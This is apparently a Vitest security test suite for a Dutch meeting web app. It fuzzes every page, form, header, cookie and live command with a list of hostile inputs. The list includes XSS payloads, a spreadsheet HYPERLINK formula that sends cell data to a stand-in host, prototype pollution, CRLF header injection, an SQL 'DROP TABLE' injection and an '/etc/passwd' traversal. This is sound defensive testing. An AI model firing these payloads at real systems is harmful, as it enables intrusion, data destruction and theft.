import { connect } from 'node:net';
import { safeParse, type GenericSchema } from 'valibot';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { LIMITS } from '../../src/lib/server/limits.ts';
import { commands, questions } from '../../src/lib/server/live/shapes.ts';
import { Visitor } from '../drive.ts';
import type { Player } from '../drive.ts';
import { asks } from '../live/asks.ts';
import { House, say, thorough, underWay } from '../live/house.ts';
import type { UnderWay } from '../live/house.ts';
import { at, doors, formAt, plain } from './doors.ts';

// Values nobody types, at every door, from who has no right, who takes part and who leads: nothing breaks, and nobody else notices.

let house: House;
let meeting: UnderWay;
let quiet: UnderWay;
beforeAll(async () => {
	house = await House.open();
	quiet = await underWay(house, ['Rust', 'Stil']);
	meeting = await underWay(house, ['Kwaad', 'Erg', 'Anna']);
});
afterAll(() => house.close());

const deep = '['.repeat(10_000) + ']'.repeat(10_000);
const HOSTILE = [
	`<script>alert(1)</script><img src=x onerror=alert(1)>"'><svg/onload=alert(1)>`,
	'=HYPERLINK("http://kwaad.example?"&A1;"klik")',
	'__proto__',
	'{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}',
	deep,
	'\u0000\u0007\u001b[31m\u0008\r\nSet-Cookie: kwaad=1\r\n\r\n',
	'\u202e\u2066\u200b\ufeffnemA\u2069',
	'\ud800 half \udfff',
	`' OR 1=1; DROP TABLE answer; --`,
	'../../../../etc/passwd\u0000.json',
	'%00%2e%2e%2f%ff%c0%ae',
	'9'.repeat(400),
	'-1e309'
];
/** Some of them, others at each door; all of them when there is time. */
const some = (nth: number, count: number) =>
	thorough ? HOSTILE : Array.from({ length: count }, (_, i) => HOSTILE[(nth + i * 4) % HOSTILE.length]!);

const visitors = () => ({ nobody: new Visitor(house.url), 'who takes part': meeting.seats[0]!.visitor, 'who leads': house.ellen });

/** Somebody else goes on as if nothing happened, nothing failed inside, and a conversation that nobody touched is as it was. */
async function unaffected(before: string): Promise<void> {
	const other = quiet.seats[1]!;
	const id = await other.put(quiet.field, 'Gewoon verder.');
	expect(house.stored(quiet.session)).toContain('Gewoon verder.');
	await other.client.send('answer:drop', { id, ticket: null, pen: other.pen() });
	expect((await fetch(`${house.url}/readyz`)).status).toBe(200);
	expect(house.printed.match(/.*(?:"status":5|uncaught|unhandled).*/gi) ?? []).toEqual([]);
	const words = (text: string) => text.match(/Een half uur zonder telefoon\.|"(?:kwaad|admin)"/g);
	expect(words(house.stored(quiet.session))).toEqual(words(before));
}

async function status(visitor: Visitor, path: string, more: RequestInit & { headers?: Record<string, string> } = {}): Promise<number> {
	try {
		const response = await fetch(visitor.url + path, { redirect: 'manual', ...more, headers: { cookie: visitor.cookie, ...more.headers } });
		await response.arrayBuffer();
		return response.status;
	} catch {
		// Too much was sent, and the line was closed on it.
		return 413;
	}
}

test(
	'R12 R16: in addresses, questions, headers and cookies, at every page',
	async () => {
		const before = house.stored(quiet.session);
		const wrong: string[] = [];
		let nth = 0;
		for (const { route } of doors())
			for (const [who, visitor] of Object.entries(visitors()))
				for (const value of some(nth++, 1)) {
					const here = {
						team: house.team,
						session: meeting.session,
						round: meeting.round,
						method: 'kwartier',
						meeting: 'gk1',
						kind: 'gesprek',
						of: meeting.session,
						format: 'pdf'
					};
					const typed = encodeURIComponent(value.toWellFormed().slice(0, 3000));
					const query = `?zoek=${typed}&voor=${typed}&__proto__=${typed}&constructor[prototype]=${typed}&${typed}=1`;
					const paths = [at(route, here) + query, `${at(route, here)}/__data.json${query}`];
					if (route.includes('[')) paths.push(route.replace(/\[\w+\]/g, typed));
					const header = value.replace(/[^\x20-\x7e]/g, '').slice(0, 2000) || 'x';
					const cookies = ['seat_', `seat_${meeting.session}`, 'return', 'sign-in', 'language', '__proto__'].map(
						(name) => `${name}=${typed.slice(0, 400)}`
					);
					const headers = {
						'accept-language': header,
						'user-agent': header,
						'x-forwarded-for': header,
						'x-forwarded-proto': header,
						'x-sveltekit-invalidated': header,
						accept: header
					};
					for (const path of paths) {
						const code = await status(visitor, path);
						if (code >= 500) wrong.push(`${who} GET ${path.slice(0, 120)}: ${code}`);
					}
					for (const more of [headers, { cookie: cookies.join('; ') }]) {
						const code = await status(visitor, at(route, here), { headers: more as never });
						if (code >= 500) wrong.push(`${who} GET ${at(route, here)} with ${JSON.stringify(more).slice(0, 80)}: ${code}`);
					}
				}
		expect(wrong).toEqual([]);
		await unaffected(before);
	},
	thorough ? 1_200_000 : 120_000
);

/** What ends the right to go on trying. */
const ENDS = /uitloggen|\?\/(?:everywhere|leave|forget)$|ik\?\/remove|instellingen\?\/remove/;

test('R12 R16: in every form of every page', async () => {
	const before = house.stored(quiet.session);
	const wrong: string[] = [];
	let tried = 0;
	for (const { route, forms } of doors())
		for (const form of forms)
			for (const [who, visitor] of Object.entries(visitors())) {
				const here = {
					team: house.team,
					session: meeting.session,
					round: meeting.round,
					method: 'kwartier',
					meeting: 'gk1',
					kind: 'gesprek',
					of: meeting.session
				};
				const path = formAt(at(route, here), form);
				if (ENDS.test(path)) continue;
				const post = (body: BodyInit, headers: Record<string, string> = {}) =>
					status(visitor, path, {
						method: 'POST',
						body,
						headers: { origin: house.url, accept: 'application/json', 'x-sveltekit-action': 'true', ...headers }
					});
				for (const value of some(tried, 2)) {
					const fields = [...new Set([...form.fields, ...(form.fields.length ? [] : ['id', 'name', 'file', 'link', 'code'])])];
					const bodies: [BodyInit, Record<string, string>?][] = [
						[new URLSearchParams(fields.map((name) => [name, value.toWellFormed()]))],
						// One of them among what could have been typed: a form that looks at its fields one by one comes further.
						[
							new URLSearchParams(
								fields.map((name, at) => [name, at === tried % fields.length ? value.toWellFormed() : (plain[name] ?? '')])
							)
						]
					];
					const strange = [...fields, '__proto__', 'constructor', value.toWellFormed().slice(0, 200)];
					if (tried % 2 === 0) bodies.push([new URLSearchParams(strange.map((name) => [name, 'x']))]);
					if (tried % 4 === 0) {
						const files = new FormData();
						for (const name of fields) files.append(name, new Blob([value]), `${value.toWellFormed().slice(0, 100)}.json`);
						bodies.push(
							[files],
							[deep, { 'content-type': 'application/json' }],
							['--x\r\nbroken', { 'content-type': 'multipart/form-data; boundary=x' }]
						);
					}
					for (const [body, headers] of bodies) {
						const code = await post(body, headers);
						tried++;
						if (code >= 500) wrong.push(`${who} POST ${path}: ${code}`);
					}
				}
			}
	expect(wrong).toEqual([]);
	expect(tried).toBeGreaterThan(500);
	await unaffected(before);
}, 240_000);

test('R16: ten megabytes are turned away at every form that is open to nobody, and by who leads', async () => {
	const before = house.stored(quiet.session);
	const body = `name=${'x'.repeat(10_000_000)}`;
	const headers = { origin: house.url, 'content-type': 'application/x-www-form-urlencoded' };
	const taken: string[] = [];
	for (const path of ['/meedoen?/look', '/inloggen', '/terug?/open', '/teams?/make', `/teams/${house.team}/werkwijzen?/import`])
		for (const visitor of path.startsWith('/teams') ? [house.ellen] : [new Visitor(house.url), house.ellen]) {
			const code = await status(visitor, path, { method: 'POST', body, headers });
			if (code < 400 || code >= 500) taken.push(`${path}: ${code}`);
		}
	expect(taken).toEqual([]);
	await unaffected(before);
});

/** The payload with these values in the place of what was there, one at a time and all together. */
function* spoiled(payload: object, value: unknown): Generator<object> {
	const keys = Object.keys(payload);
	for (const key of keys) yield { ...payload, [key]: value };
	yield Object.fromEntries(keys.map((key) => [key, value]));
	yield JSON.parse(`{"__proto__":{"admin":true}${keys.length ? ',' : ''}${JSON.stringify(payload).slice(1)}`) as object;
}

test('R16: what is answered before it was read to its end leaves the line free for who comes next on it', async () => {
	const body = `name=${'x'.repeat(300_000)}`;
	const post = `POST /teams/niets?/make HTTP/1.1\r\nHost: x\r\nOrigin: http://x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
	const heard = await new Promise<string>((done) => {
		let said = '';
		const line = connect(house.app.port, '127.0.0.1', () =>
			line.write(`${post}GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)
		);
		line.on('data', (chunk) => (said += chunk)).on('close', () => done(said));
	});
	expect(heard.match(/HTTP\/1\.1 \d+/g)).toHaveLength(2);
	expect(heard).toMatch(/HTTP\/1\.1 200 OK[^]*$/);
});

test('R12 R16: over the wire, in every verb there is, refused without effect', async () => {
	const [bad] = meeting.seats;
	const before = house.stored(quiet.session);
	const verbs = asks(meeting.things);
	expect(Object.keys(verbs).sort()).toEqual([...Object.keys(commands), ...Object.keys(questions)].sort());
	const nested = JSON.parse('['.repeat(4000) + ']'.repeat(4000)) as unknown;
	const values: unknown[] = [nested, { __proto__: null, length: 1e9 }, [HOSTILE[0]], Number.MAX_VALUE];
	const shapes: Record<string, GenericSchema> = { ...commands, ...questions };
	const pages: Player[] = [bad!, meeting.leader];
	let nth = 0;
	for (const [verb, payload] of Object.entries(verbs))
		for (const value of thorough ? values : [values[nth % values.length]]) {
			nth++;
			for (const one of spoiled(payload, value)) {
				// What still has the right shape is words, and words may be anything. What is larger than a frame may be ends the line: `live/hostile`.
				if (safeParse(shapes[verb]!, one).success || JSON.stringify(one).length > LIMITS.frame) continue;
				const page = pages[nth % 2]!;
				const stored = nth % 5 === 0 ? house.stored(meeting.session) : undefined;
				expect([verb, (await say(page, verb, one)).ok]).toEqual([verb, false]);
				if (stored) expect(house.stored(meeting.session)).toBe(stored);
			}
		}
	await unaffected(before);
}, 240_000);
